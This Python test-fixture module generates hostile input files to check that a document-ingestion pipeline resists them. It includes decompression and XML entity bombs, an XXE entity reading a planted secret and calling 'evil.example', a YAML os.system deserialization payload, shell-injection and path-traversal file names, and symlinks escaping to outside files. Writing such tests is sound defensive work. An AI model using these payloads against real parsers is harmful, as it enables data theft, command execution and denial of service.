"""Files that are broken, huge, nested, or not what they seem; made on the fly."""

from __future__ import annotations

import gzip
import io
import json
import os
import zipfile
from collections.abc import Iterator
from pathlib import Path

SECRET = "the-secret-of-the-house-4711"
PROSE = (
    "The mayor of Springfield opened a bridge over the river on Tuesday, and thousands of people came to see it.\n\n"
    "At least 12 people were hurt in Peru when the old one fell down last year, Maria Rossi told reporters.\n\n"
)


def write(seeds: Path, outside: Path) -> tuple[dict[str, int], tuple[str, ...], str]:
    """Write all; return file name -> documents in it, the names that must be lost, and the secret planted outside."""
    made: dict[str, int] = {}
    lost: list[str] = []
    for name, data, is_lost in _files():
        (seeds / name).write_bytes(data)
        made[name] = 1
        lost += [name] * is_lost
    for name, is_lost in _links(seeds, outside):
        made[name] = 1
        lost += [name] * is_lost
    return made, tuple(lost), SECRET


def _files() -> Iterator[tuple[str, bytes, bool]]:
    """Name, bytes, whether nothing of it can be read."""
    yield from _bytes_of_all_kinds()
    yield from _bombs()
    yield from _nested()
    yield from _long()
    yield from _strange_names()


def _bytes_of_all_kinds() -> Iterator[tuple[str, bytes, bool]]:
    prose = PROSE.encode()
    yield "b-empty.txt", b"", True
    yield "b-empty.html", b"", True
    yield "b-empty.json", b"", True
    yield "b-empty.warc", b"", True
    yield "b-empty.zip", b"", True
    yield "b-one-byte.txt", b"x", False
    yield "b-one-zero.txt", b"\0", True
    yield "b-blank.md", b" \n\t\n", True
    yield "b-front-only.md", b"---\ntitle: x\n---\n", True
    yield "b-nul.txt", PROSE.replace(" ", " \0", 2).encode(), False
    yield "b-binary.txt", bytes(range(256)) * 64, True
    yield "b-png.html", b"\x89PNG\r\n\x1a\n" + bytes(100), True
    yield "b-pdf.txt", b"%PDF-1.7\n" + prose, True
    yield "b-bad-utf8.txt", prose.replace(b"bridge", b"br\xffi\xc3dge\xe2\x82"), False
    yield "b-overlong.txt", prose + b"\xc0\xaf\xc0\xae\xf8\x88\x80\x80\x80", False
    yield "b-utf16.txt", PROSE.encode("utf-16"), False
    yield "b-utf16-cut.txt", PROSE.encode("utf-16")[:-1], False
    yield "b-utf16be.txt", PROSE.encode("utf-16-be"), False
    yield "b-utf32.txt", PROSE.encode("utf-32"), False
    yield "b-utf16.html", f"<html><body><p>{PROSE}</p></body></html>".encode("utf-16"), False
    yield "b-mojibake.txt", PROSE.replace("bridge", "brücke „neu“").encode().decode("cp1252", "replace").encode(), False
    yield "b-utf7.html", b'<meta charset="utf-7"><p>+ADw-script+AD4-window.hacked=1+ADw-/script+AD4- ' + prose, False
    yield (
        "b-surrogates.json",
        b'{"title": "x \\ud800\\udfff\\ud83d", "text": ' + json.dumps(PROSE).encode() + b"}",
        False,
    )
    yield "b-surrogates.txt", prose.replace(b"bridge", b"\xed\xa0\x80bridge\xed\xbf\xbf"), False
    yield "b-numbers.json", b'{"title": 1e999, "text": NaN, "published": ' + b"9" * 5000 + b"}", True
    yield "b-epoch.json", json.dumps({"text": PROSE, "published": 9999999999999, "id": -1}).encode(), False
    yield "b-duplicate-keys.json", b'{"text": "x", "text": ' + json.dumps(PROSE).encode() + b"}", False
    yield "b-not-a-zip.zip", b"PK\x03\x04" + bytes(60), True
    yield "b-cut.gz", gzip.compress(prose * 50, mtime=0)[:60], True
    yield "b-bad-warc.warc", b"WARC/1.0\r\nContent-Length: 99999999999999999999\r\nWARC-Type: response\r\n\r\nx", True
    yield "b-bad-csv.csv", b'id,text\n1,"never closed ' + prose, False
    yield "b-bad-sidecar.txt", prose, True


def _bombs() -> Iterator[tuple[str, bytes, bool]]:
    zeros = bytes(48 * 2**20)
    packed = gzip.compress(zeros, 1, mtime=0)
    yield "bomb.txt.gz", packed, True
    yield "bomb-spaces.html.gz", gzip.compress(b"<html>" + b" " * (33 * 2**20), 1, mtime=0), True
    yield "bomb-twice.txt.gz", gzip.compress(packed, 1, mtime=0), True
    yield "bomb.zip", _zipped({"a.txt": zeros}), True
    yield "bomb-nested.zip", _zipped({"a.zip": _zipped({"b.zip": _zipped({"c.zip": _zipped({"d.txt": b"x"})})})}), True
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    dtd = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "lol">{laughs}]>'
    yield "bomb-entities.rss", f"{dtd}<rss><channel><item><title>&l9;</title></item></channel></rss>".encode(), True
    blow = f'<!DOCTYPE rss [<!ENTITY a "{"x" * 50000}">]>'
    item = f"<item><title>q</title><description>{'&a;' * 5000} {PROSE}</description></item>"
    yield "bomb-quadratic.rss", f"{blow}<rss><channel>{item}</channel></rss>".encode(), False
    fetch = (
        '<!DOCTYPE rss [<!ENTITY a SYSTEM "../outside/secret.txt"><!ENTITY % b SYSTEM "https://evil.example/"> %b;]>'
    )
    item = f"<item><title>&a;</title><description>&a; {PROSE}</description></item>"
    yield "bomb-external.rss", f"{fetch}<rss><channel>{item}</channel></rss>".encode(), False
    aliases = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 20))
    yield "bomb-aliases.md", f"---\na0: &a0 [lol, lol]\n{aliases}text: *a19\n---\n\n{PROSE}".encode(), True
    yield (
        "bomb-merge.md",
        f"---\nx: &x\n  title: !!python/object/apply:os.system [touch escaped]\n---\n\n{PROSE}".encode(),
        True,
    )
    opml = f"<opml>{'<outline>' * 3000}</opml>"
    yield "bomb.opml", opml.encode(), True


def _nested() -> Iterator[tuple[str, bytes, bool]]:
    yield "n-div.html", f"<html><body>{'<div>' * 5000}<p>{PROSE}</p></body></html>".encode(), False
    yield "n-quote.html", f"<html><body>{'<blockquote><ul><li>' * 2000}<p>{PROSE}</p></body></html>".encode(), False
    yield "n-bold.html", f"<html><body><p>{'<b><i><font>' * 2000}{PROSE}</p></body></html>".encode(), False
    yield "n-table.html", f"<html><body>{'<table><tr><td>' * 1500}<p>{PROSE}</p></body></html>".encode(), False
    yield "n-quote.md", (">" * 3000 + f" {PROSE}").encode(), False
    yield "n-list.md", ("".join(f"{'  ' * n}- x\n" for n in range(300)) + f"\n\n{PROSE}").encode(), False
    yield "n-brackets.md", (("[" * 20000) + f"\n\n{PROSE}").encode(), False
    yield "n-brackets.txt", (("[(<{" * 5000) + f"\n\n{PROSE}").encode(), False
    yield "n-emphasis.md", (("*_" * 10000) + f"a\n\n{PROSE}").encode(), False
    yield "n-backticks.md", ("".join("`" * n + " " for n in range(1, 200)) + f"\n\n{PROSE}").encode(), False
    yield "n-links.md", (("[a](" * 5000) + f"\n\n{PROSE}").encode(), False
    yield "n-array.json", (b"[" * 100_000 + b"]" * 100_000), True
    yield "n-object.jsonl", b'{"a":' * 50_000 + b"1" + b"}" * 50_000, True
    yield "n-toml.md", f"+++\na = {'[' * 5000}{']' * 5000}\n+++\n\n{PROSE}".encode(), True
    yield "n-yaml.md", f"---\na: {'[' * 5000}\n---\n\n{PROSE}".encode(), True
    yield "n-feed.rss", f"<rss><channel><item>{'<a>' * 5000}</item></channel></rss>".encode(), True
    parts = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(400))
    yield (
        "n-mail.eml",
        f"From: a@b.example\nSubject: x\nMIME-Version: 1.0\n{parts}Content-Type: text/plain\n\n{PROSE}".encode(),
        False,
    )
    yield "n-quotes.txt", (("“‘" * 5000) + PROSE + ("’”" * 5000)).encode(), False


def _long() -> Iterator[tuple[str, bytes, bool]]:
    words = "the river rose again and the bridge was closed "
    yield "l-line.txt", (words * (10 * 2**20 // len(words))).encode(), True
    yield "l-word.txt", (PROSE + "x" * (2**20)).encode(), True
    yield (
        "l-attributes.html",
        (f"<html><body><p {' '.join(f'a{n}=1' for n in range(100_000))}>{PROSE}</p></body></html>".encode()),
        False,
    )
    yield "l-attribute.html", f'<html><body><p title="{"x" * 2**20}">{PROSE}</p></body></html>'.encode(), False
    yield (
        "l-title.html",
        f"<html><title>{'Bridge opens ' * 20000}</title><body><p>{PROSE}</p></body></html>".encode(),
        False,
    )
    yield "l-lines.txt", (PROSE + "x\n" * 100_000).encode(), True
    yield "l-open.html", f"<html><body><p>{PROSE}</p>{'<' * 20000}{'&' * 20000}".encode(), False
    yield "l-comment.html", f"<html><body><p>{PROSE}</p><!--{'-' * 100_000}".encode(), False
    yield "l-spaces.txt", (PROSE + " " * 200_000 + "By" + "\u00a0" * 200_000 + "x").encode(), False
    yield "l-digits.txt", (PROSE + "At least " + "9" * 20_000 + " people were killed, police said.").encode(), False
    yield "l-names.txt", (PROSE + "Ada Keita and " * 500 + "others came.").encode(), False
    yield (
        "l-header.eml",
        (
            b"From: "
            + b"a" * 200_000
            + b"@b.example\nSubject: =?utf-8?q?"
            + b"=41" * 20_000
            + b"?=\n\n"
            + PROSE.encode()
        ),
        False,
    )
    yield (
        "l-columns.csv",
        (",".join(f"c{n}" for n in range(20_000)) + ",text\n" + "," * 20_000 + '"' + PROSE + '"').encode(),
        False,
    )


def _strange_names() -> Iterator[tuple[str, bytes, bool]]:
    prose = PROSE.encode()
    for name in (
        "-rf.txt",
        "CON.txt",
        "nul.txt",
        "index.txt",
        "404.txt",
        "a\nb.txt",
        "a'b\"c`d$(touch escaped).txt",
        "%2e%2e%2fescaped.txt",
        "..txt",
        "x" * 200 + ".txt",
        "\u202etxt.exe",
        "e\u0301.txt",
        "é.txt",
        "a?b#c&d.txt",
        "constructor.txt",
        "__proto__.txt",
    ):
        if not name.startswith("."):
            yield name, prose.replace(b"Springfield", name.encode()[:20]), False


def _zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2021, 3, 4, 5, 6, 8)), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _links(seeds: Path, outside: Path) -> Iterator[tuple[str, bool]]:
    """What lies outside, and links in the seeds that lead there. The bool: whether it must be lost."""
    outside.mkdir()
    secret = f"{PROSE}{SECRET}\n"
    (outside / "secret.txt").write_text(secret, "utf-8")
    (outside / "secret.toml").write_text(f'title = "{SECRET}"\n', "utf-8")
    (outside / "deep").mkdir()
    (outside / "deep" / "secret.html").write_text(f"<html><body><p>{secret}</p></body></html>", "utf-8")
    (seeds / "link-file.txt").symlink_to(outside / "secret.txt")
    yield "link-file.txt", True
    (seeds / "link-relative.txt").symlink_to("../outside/secret.txt")
    yield "link-relative.txt", True
    (seeds / "link-folder").symlink_to(outside)
    yield "link-folder", True
    (seeds / "link-root").symlink_to("/")
    yield "link-root", True
    (seeds / "link-self.txt").symlink_to("link-self.txt")
    yield "link-self.txt", True
    (seeds / "link-dead.txt").symlink_to("nowhere.txt")
    yield "link-dead.txt", True
    (seeds / "link-chain.txt").symlink_to("link-relative.txt")
    yield "link-chain.txt", True
    (seeds / "b-bad-sidecar.txt.toml").write_text("title = ", "utf-8")
    (seeds / "link-sidecar.txt").write_text(PROSE, "utf-8")
    (seeds / "link-sidecar.txt.toml").symlink_to(outside / "secret.toml")
    yield "link-sidecar.txt", True
    os.mkfifo(seeds / "pipe.txt")
    yield "pipe.txt", True
    (seeds / "zip-link.zip").write_bytes(_zip_with_link(outside))
    yield "zip-link.zip", False


def _zip_with_link(outside: Path) -> bytes:
    """A symbolic link as a member is no input; the article beside it is."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("link.txt", (2021, 3, 4, 5, 6, 8))
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(outside / "secret.txt"))
        archive.writestr(zipfile.ZipInfo("article.txt", (2021, 3, 4, 5, 6, 8)), PROSE)
    return out.getvalue()
